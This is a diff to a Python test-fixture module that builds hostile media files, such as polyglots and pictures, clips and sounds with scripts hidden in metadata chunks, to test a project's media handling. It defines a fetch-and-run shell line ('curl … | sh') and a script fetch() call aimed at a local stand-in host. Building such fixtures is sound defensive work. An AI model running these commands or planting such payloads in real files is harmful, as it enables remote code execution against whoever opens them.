@@ -1,6 +1,4 @@
-"""Files that a malicious sender could send in place of copies: polyglots, and copies with extra
-content.
-"""
+"""Files that a malicious sender could send in place of copies, such as polyglots."""
 
 import io
 import struct
@@ -21,11 +19,11 @@ from entrenous.media.picture_writer import write_picture
 from entrenous.media.sound_writer import write_sound
 from tests.village.world import photo
 
-Files = list[tuple[str, str, bytes]]  # description, media type, bytes
+LabelledFiles = list[tuple[str, str, bytes]]  # description, media type, bytes
 
-SHELL = b"\n#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n"
-HTML = b"<html><script>fetch('http://127.0.0.1:9/')</script></html>"
-SOUNDS = {
+SHELL_SCRIPT = b"\n#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n"
+HTML_SCRIPT = b"<html><script>fetch('http://127.0.0.1:9/')</script></html>"
+SOUND_MEDIA_TYPES = {
     SoundFormat.OPUS: "audio/ogg",
     SoundFormat.AAC: "audio/mp4",
     SoundFormat.MP3: "audio/mpeg",
@@ -35,36 +33,36 @@ SOUNDS = {
 }
 
 
-def archive() -> bytes:
-    """Return a ZIP that contains a script; it may be appended, as programs find it by its end."""
+def zip_archive() -> bytes:
+    """Return a ZIP archive of a script. Programs find a ZIP by its end, even after other data."""
     file = io.BytesIO()
     with zipfile.ZipFile(file, "w") as packed:
-        packed.writestr("run.sh", SHELL)
+        packed.writestr("run.sh", SHELL_SCRIPT)
     return file.getvalue()
 
 
 @cache
-def honest() -> dict[str, bytes]:
-    """Return one copy of each media type, as our writers make it."""
+def valid_copies() -> dict[str, bytes]:
+    """Return one copy of each media type, made by our writers, by media type."""
     picture = Image.open(io.BytesIO(photo(width_px=100)))
     made = {
-        f"image/{kind.lower()}": write_picture(read_picture(_saved(picture, kind)))
+        f"image/{kind.lower()}": write_picture(read_picture(_encode_picture(picture, kind)))
         for kind in ("JPEG", "PNG", "WEBP")
     }
-    made["video/mp4"] = _clip()
+    made["video/mp4"] = _make_clip()
     wave = np.sin(np.arange(24_000) * 0.17)[:, None].astype(np.float32) * 0.4
-    for kind, media_type in SOUNDS.items():
+    for kind, media_type in SOUND_MEDIA_TYPES.items():
         sound = Sound(16_000, 1, wave.tobytes(), SoundEncoding(kind, 32_000))
         made[media_type] = write_sound(sound, wave)
     return made
 
 
-def hostile(wanted: int) -> Files:
-    """Return at least this many files: all handcrafted ones, then random mutations."""
+def make_hostile_files(count_min: int) -> LabelledFiles:
+    """Return at least this many files: all handcrafted files, then random mutations of copies."""
     files = [
         *_polyglots(),
-        *_mislabelled(),
-        *_extended_or_cut(),
+        *_mislabelled_files(),
+        *_extended_or_truncated_copies(),
         *_changed_jpegs(),
         *_changed_pngs(),
         *_changed_webps(),
@@ -72,18 +70,18 @@ def hostile(wanted: int) -> Files:
     ]
     files += [*_changed_oggs(), *_changed_sounds()]
     rng = Random(24)
-    while len(files) < wanted:
-        files.append(_mutated(rng))
+    while len(files) < count_min:
+        files.append(_mutate_copy(rng))
     return files
 
 
-def _saved(picture: Image.Image, kind: str) -> bytes:
+def _encode_picture(picture: Image.Image, kind: str) -> bytes:
     file = io.BytesIO()
     picture.save(file, kind)
     return file.getvalue()
 
 
-def _clip() -> bytes:
+def _make_clip() -> bytes:
     rng = np.random.default_rng(3)
     wave = np.sin(np.arange(32_000) * 0.1)[:, None].astype(np.float32) * 0.3
     shown = ClipFormat(64, 48, Fraction(25), 1.0, ColourSpace(1, 1, 1), Fraction(1))
@@ -96,32 +94,41 @@ def _clip() -> bytes:
 
 def _polyglots() -> Iterator[tuple[str, str, bytes]]:
     """Yield files that begin like a picture, clip or sound and continue with something else."""
-    for media_type, data in honest().items():
+    for media_type, data in valid_copies().items():
         for length in (4, 12, 24):
-            for what, body in (("shell", SHELL), ("html", HTML), ("zip", archive())):
+            for what, body in (
+                ("shell", SHELL_SCRIPT),
+                ("html", HTML_SCRIPT),
+                ("zip", zip_archive()),
+            ):
                 yield f"{media_type} start {length} {what}", media_type, data[:length] + body
-    yield "the review's file", "image/jpeg", b"\xff\xd8\xff\xe0" + SHELL + HTML
+    yield "jpeg start and scripts", "image/jpeg", b"\xff\xd8\xff\xe0" + SHELL_SCRIPT + HTML_SCRIPT
 
 
-def _mislabelled() -> Iterator[tuple[str, str, bytes]]:
-    """Yield valid copies labelled with a wrong media type, and files of types no copy has."""
-    for media_type, data in honest().items():
-        for other in honest():
+def _mislabelled_files() -> Iterator[tuple[str, str, bytes]]:
+    """Yield valid copies with a wrong media type, and pictures in formats that no copy has."""
+    for media_type, data in valid_copies().items():
+        for other in valid_copies():
             if other != media_type:
                 yield f"{media_type} as {other}", other, data
         for other in ("text/html", "image/svg+xml", "application/x-sh", "image/gif"):
             yield f"{media_type} as {other}", other, data
     for what, kind in (("GIF", "GIF"), ("BMP", "BMP"), ("TIFF", "TIFF")):
-        data = _saved(Image.new("RGB", (9, 9)), kind)
+        data = _encode_picture(Image.new("RGB", (9, 9)), kind)
         yield what, "image/jpeg", data
         yield what, f"image/{kind.lower()}", data
 
 
-def _extended_or_cut() -> Iterator[tuple[str, str, bytes]]:
-    """Yield copies with something appended or prepended, or with the end missing."""
-    for media_type, data in honest().items():
+def _extended_or_truncated_copies() -> Iterator[tuple[str, str, bytes]]:
+    """Yield copies with data appended or prepended, and copies without their end."""
+    for media_type, data in valid_copies().items():
         for what, tail in (
-            *(("zip", archive()), ("html", HTML), ("shell", SHELL), ("a zero", b"\0")),
+            *(
+                ("zip", zip_archive()),
+                ("html", HTML_SCRIPT),
+                ("shell", SHELL_SCRIPT),
+                ("a zero", b"\0"),
+            ),
             *(
                 ("a line", b"\n"),
                 ("zeros", bytes(4096)),
@@ -136,7 +143,7 @@ def _extended_or_cut() -> Iterator[tuple[str, str, bytes]]:
 
 
 def _changed_jpegs() -> Iterator[tuple[str, str, bytes]]:
-    data = honest()["image/jpeg"]
+    data = valid_copies()["image/jpeg"]
     places, at = [2], 2
     while data[at + 1] != 0xDA:
         at += 2 + int.from_bytes(data[at + 2 : at + 4], "big")
@@ -148,26 +155,31 @@ def _changed_jpegs() -> Iterator[tuple[str, str, bytes]]:
             yield f"jpeg {marker:x} at {place}", "image/jpeg", data[:place] + more + data[place:]
     end = len(data) - 2
     for what, more in (
-        ("html", HTML),
-        ("zip", archive().replace(b"\xff", b"\xfe")),
+        ("html", HTML_SCRIPT),
+        ("zip", zip_archive().replace(b"\xff", b"\xfe")),
         ("zeros", bytes(64)),
     ):
         yield f"jpeg {what} in its scan's end", "image/jpeg", data[:end] + more + data[end:]
     yield "jpeg with two ends", "image/jpeg", data + b"\xff\xd9"
     yield "jpeg with a restart", "image/jpeg", data[:end] + b"\xff\xd0" + data[end:]
     image = Image.open(io.BytesIO(data))
-    for how in ({"progressive": True}, {"optimize": True}, {"comment": SHELL}, {"exif": _exif()}):
+    for how in (
+        {"progressive": True},
+        {"optimize": True},
+        {"comment": SHELL_SCRIPT},
+        {"exif": _exif_with_script()},
+    ):
         file = io.BytesIO()
         image.save(file, "JPEG", **how)
         yield f"jpeg {list(how)}", "image/jpeg", file.getvalue()
     file = io.BytesIO()
-    image.save(file, "JPEG", icc_profile=b"\0" * 40 + SHELL + bytes(100))
+    image.save(file, "JPEG", icc_profile=b"\0" * 40 + SHELL_SCRIPT + bytes(100))
     yield "jpeg with a profile of its own", "image/jpeg", file.getvalue()
 
 
-def _exif() -> Image.Exif:
+def _exif_with_script() -> Image.Exif:
     exif = Image.Exif()
-    exif[0x010E] = SHELL.decode()
+    exif[0x010E] = SHELL_SCRIPT.decode()
     return exif
 
 
@@ -176,7 +188,7 @@ def _png_chunk(name: bytes, body: bytes) -> bytes:
 
 
 def _changed_pngs() -> Iterator[tuple[str, str, bytes]]:
-    data = honest()["image/png"]
+    data = valid_copies()["image/png"]
     after_head, end = 33, len(data) - 12
     names = (
         b"tEXt",
@@ -192,13 +204,13 @@ def _changed_pngs() -> Iterator[tuple[str, str, bytes]]:
     )
     for name in names:
         for place in (after_head, end):
-            more = _png_chunk(name, b"Comment\0" + SHELL)
+            more = _png_chunk(name, b"Comment\0" + SHELL_SCRIPT)
             yield f"png {name!r} at {place}", "image/png", data[:place] + more + data[place:]
     raw = zlib.decompress(data[after_head + 8 : end - 4])
     for what, packed in (
-        ("more rows", zlib.compress(raw + HTML)),
+        ("more rows", zlib.compress(raw + HTML_SCRIPT)),
         ("less rows", zlib.compress(raw[:-1])),
-        ("bytes behind", zlib.compress(raw) + SHELL),
+        ("bytes behind", zlib.compress(raw) + SHELL_SCRIPT),
     ):
         whole = data[:after_head] + _png_chunk(b"IDAT", packed) + data[end:]
         yield f"png {what}", "image/png", whole
@@ -207,11 +219,11 @@ def _changed_pngs() -> Iterator[tuple[str, str, bytes]]:
     image = Image.open(io.BytesIO(data))
     for mode in ("P", "1", "I;16"):
         plain = image.convert("L").convert(mode) if mode == "I;16" else image.convert(mode)
-        yield f"png {mode}", "image/png", _saved(plain, "PNG")
+        yield f"png {mode}", "image/png", _encode_picture(plain, "PNG")
     yield (
         "png profile",
         "image/png",
-        data[:33] + _png_chunk(b"iCCP", b"x\0\0" + zlib.compress(SHELL)) + data[33:],
+        data[:33] + _png_chunk(b"iCCP", b"x\0\0" + zlib.compress(SHELL_SCRIPT)) + data[33:],
     )
 
 
@@ -220,21 +232,21 @@ def _riff_chunk(name: bytes, body: bytes) -> bytes:
 
 
 def _changed_webps() -> Iterator[tuple[str, str, bytes]]:
-    data = honest()["image/webp"]
+    data = valid_copies()["image/webp"]
     body = data[12:]
     coded = body[8 : 8 + int.from_bytes(body[4:8], "little")]
     head = _riff_chunk(
         b"VP8X", b"\x0c\0\0\0" + struct.pack("<I", 99)[:3] + struct.pack("<I", 99)[:3]
     )
     for what, chunks in {
-        "exif": head + body + _riff_chunk(b"EXIF", SHELL),
-        "xmp": head + body + _riff_chunk(b"XMP ", HTML),
-        "unknown": body + _riff_chunk(b"TEST", SHELL),
-        "unknown first": _riff_chunk(b"TEST", SHELL) + body,
+        "exif": head + body + _riff_chunk(b"EXIF", SHELL_SCRIPT),
+        "xmp": head + body + _riff_chunk(b"XMP ", HTML_SCRIPT),
+        "unknown": body + _riff_chunk(b"TEST", SHELL_SCRIPT),
+        "unknown first": _riff_chunk(b"TEST", SHELL_SCRIPT) + body,
         "two pictures": body + body,
-        "more coded": _riff_chunk(b"VP8 ", coded + SHELL),
-        "zip coded": _riff_chunk(b"VP8 ", coded + archive()),
-        "profile": _riff_chunk(b"ICCP", SHELL) + body,
+        "more coded": _riff_chunk(b"VP8 ", coded + SHELL_SCRIPT),
+        "zip coded": _riff_chunk(b"VP8 ", coded + zip_archive()),
+        "profile": _riff_chunk(b"ICCP", SHELL_SCRIPT) + body,
         "anim": _riff_chunk(b"ANIM", bytes(6)) + body,
     }.items():
         yield f"webp {what}", "image/webp", _riff_chunk(b"RIFF", b"WEBP" + chunks)
@@ -246,7 +258,7 @@ def _mp4_box(name: bytes, body: bytes) -> bytes:
 
 def _changed_mp4s() -> Iterator[tuple[str, str, bytes]]:
     for media_type in ("video/mp4", "audio/mp4"):
-        data = honest()[media_type]
+        data = valid_copies()[media_type]
         moov = data.index(b"moov") - 4
         for name in (
             b"free",
@@ -259,23 +271,25 @@ def _changed_mp4s() -> Iterator[tuple[str, str, bytes]]:
             b"mdat",
             b"pdin",
         ):
-            more = _mp4_box(name, HTML + SHELL)
+            more = _mp4_box(name, HTML_SCRIPT + SHELL_SCRIPT)
             yield f"{media_type} {name!r} last", media_type, data + more
             yield f"{media_type} {name!r} before moov", media_type, data[:moov] + more + data[moov:]
             for inside in (b"moov", b"trak", b"mdia", b"minf", b"stbl", b"stsd"):
                 yield (
                     f"{media_type} {name!r} in {inside!r}",
                     media_type,
-                    _with_box(data, inside, more),
+                    _insert_box(data, inside, more),
                 )
         at = data.index(b"mdat") - 4
-        size = int.from_bytes(data[at : at + 4], "big") + len(HTML)
-        longer = data[:at] + struct.pack(">I", size) + data[at + 4 : moov] + HTML + data[moov:]
+        size = int.from_bytes(data[at : at + 4], "big") + len(HTML_SCRIPT)
+        longer = (
+            data[:at] + struct.pack(">I", size) + data[at + 4 : moov] + HTML_SCRIPT + data[moov:]
+        )
         yield f"{media_type} more media", media_type, longer
         yield f"{media_type} a brand", media_type, data[:8] + b"html" + data[12:]
         name_at = data.index(b"hdlr") + 12
         yield f"{media_type} handler", media_type, data[:name_at] + b"\x01" + data[name_at + 1 :]
-    data = honest()["video/mp4"]
+    data = valid_copies()["video/mp4"]
     first = data.index(b"mdat") + 4
     sei = data[: first + 4] + b"\x06" + data[first + 5 :]
     yield "mp4 with SEI", "video/mp4", sei
@@ -283,8 +297,8 @@ def _changed_mp4s() -> Iterator[tuple[str, str, bytes]]:
     yield "mp4 compressor", "video/mp4", data[:at] + b"\x08<script>" + data[at + 9 :]
 
 
-def _with_box(data: bytes, inside: bytes, more: bytes) -> bytes:
-    """Add the box ``more`` at the end of the first box ``inside``, and correct the outer sizes."""
+def _insert_box(data: bytes, inside: bytes, more: bytes) -> bytes:
+    """Append the box ``more`` to the first box named ``inside``, and correct all outer sizes."""
     changed = bytearray(data)
     path = {b"moov": 1, b"trak": 2, b"mdia": 3, b"minf": 4, b"stbl": 5, b"stsd": 6}
     end = 0
@@ -314,54 +328,58 @@ def _ogg_checksum(page: bytes) -> int:
 
 
 def _changed_oggs() -> Iterator[tuple[str, str, bytes]]:
-    data = honest()["audio/ogg"]
+    data = valid_copies()["audio/ogg"]
     second = data.index(b"OggS", 4)
     third = data.index(b"OggS", second + 4)
     serial, other = data[14:18], b"\x07\0\0\0"
-    script = _ogg_page(2, other, 0, b"\x80theora" + HTML)
+    script = _ogg_page(2, other, 0, b"\x80theora" + HTML_SCRIPT)
     yield "ogg, a stream more", "audio/ogg", script + data
     yield "ogg, a stream within", "audio/ogg", data[:second] + script + data[second:]
     yield "ogg, a stream behind", "audio/ogg", data + script
-    yield "ogg, a page behind", "audio/ogg", data + _ogg_page(4, serial, 3, HTML)
-    tags = b"OpusTags\x06\0\0\0ffmpeg\x01\0\0\0" + struct.pack("<I", len(SHELL)) + SHELL
+    yield "ogg, a page behind", "audio/ogg", data + _ogg_page(4, serial, 3, HTML_SCRIPT)
+    tags = (
+        b"OpusTags\x06\0\0\0ffmpeg\x01\0\0\0" + struct.pack("<I", len(SHELL_SCRIPT)) + SHELL_SCRIPT
+    )
     yield (
         "ogg, a comment",
         "audio/ogg",
         data[:second] + _ogg_page(0, serial, 1, tags) + data[third:],
     )
-    yield "ogg, junk between", "audio/ogg", data[:third] + SHELL + data[third:]
-    padded = b"\xff\x41\xfe" + HTML  # one frame of CELT, and padding that decoders skip
+    yield "ogg, junk between", "audio/ogg", data[:third] + SHELL_SCRIPT + data[third:]
+    padded = b"\xff\x41\xfe" + HTML_SCRIPT  # one frame of CELT, and padding that decoders skip
     yield "ogg, padding", "audio/ogg", data[:third] + _ogg_page(4, serial, 2, padded)
     for at in range(30, len(data), max(1, len(data) // 40)):
         yield f"ogg, byte {at}", "audio/ogg", data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]
 
 
 def _changed_sounds() -> Iterator[tuple[str, str, bytes]]:
-    id3 = b"ID3\x04\0\0\0\0\0\x40" + HTML.ljust(64, b"\0")
-    for media_type in SOUNDS.values():
-        data = honest()[media_type]
+    id3 = b"ID3\x04\0\0\0\0\0\x40" + HTML_SCRIPT.ljust(64, b"\0")
+    for media_type in SOUND_MEDIA_TYPES.values():
+        data = valid_copies()[media_type]
         yield f"ID3 + {media_type}", media_type, id3 + data
         for at in range(50, len(data) - 60, max(60, len(data) // 12)):
-            yield f"{media_type}, html at {at}", media_type, data[:at] + HTML + data[at:]
-    wav = honest()["audio/wav"]
+            yield f"{media_type}, html at {at}", media_type, data[:at] + HTML_SCRIPT + data[at:]
+    wav = valid_copies()["audio/wav"]
     for name in (b"LIST", b"bext", b"JUNK", b"id3 ", b"test"):
-        for body in (wav[12:] + _riff_chunk(name, SHELL), _riff_chunk(name, SHELL) + wav[12:]):
+        for body in (
+            wav[12:] + _riff_chunk(name, SHELL_SCRIPT),
+            _riff_chunk(name, SHELL_SCRIPT) + wav[12:],
+        ):
             yield f"wav {name!r}", "audio/wav", _riff_chunk(b"RIFF", b"WAVE" + body)
-    flac = honest()["audio/flac"]
+    flac = valid_copies()["audio/flac"]
     for kind in (2, 3, 4, 5, 6, 126):
-        block = bytes([kind]) + struct.pack(">I", len(HTML))[1:] + HTML
+        block = bytes([kind]) + struct.pack(">I", len(HTML_SCRIPT))[1:] + HTML_SCRIPT
         yield f"flac block {kind}", "audio/flac", flac[:42] + block + flac[42:]
-    yield "flac padding", "audio/flac", flac[:70] + HTML + flac[70 + len(HTML) :]
+    yield "flac padding", "audio/flac", flac[:70] + HTML_SCRIPT + flac[70 + len(HTML_SCRIPT) :]
 
 
-def _mutated(rng: Random) -> tuple[str, str, bytes]:
+def _mutate_copy(rng: Random) -> tuple[str, str, bytes]:
     """Return a copy with a run of bytes inserted, removed or doubled, or with its end cut off.
 
-    Nothing is removed from a JPEG: its scan has no checksum, so the rest may be another valid
-    picture, which anybody could have sent. AMR files are not changed at all, because any number of
-    frames is a valid file.
+    Nothing is removed from the middle of a JPEG: its scan has no checksum, so the result may be
+    another valid picture. AMR files are not changed, because any number of frames is a valid file.
     """
-    media_type, data = rng.choice([one for one in honest().items() if one[0] != "audio/amr"])
+    media_type, data = rng.choice([one for one in valid_copies().items() if one[0] != "audio/amr"])
     at, length = rng.randrange(1, len(data)), rng.randrange(33, 200)
     ways = ("put in", "doubled", "cut off", "taken out")
     way = rng.choice(ways[:3] if media_type == "image/jpeg" else ways)
